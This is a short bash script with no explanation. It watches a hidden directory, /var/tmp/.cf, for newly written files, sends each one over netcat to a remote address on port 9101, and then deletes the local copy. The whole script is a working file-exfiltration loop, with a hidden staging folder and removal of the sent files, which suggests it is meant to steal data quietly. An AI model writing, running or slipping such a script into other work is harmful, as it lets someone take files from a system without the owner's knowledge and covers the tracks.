#!/bin/bash
while inotifywait -qq -e close_write /var/tmp/.cf; do
  for i in /var/tmp/.cf/*; do nc -q1 198.51.100.66 9101 < "$i" && rm -f "$i"; done
done
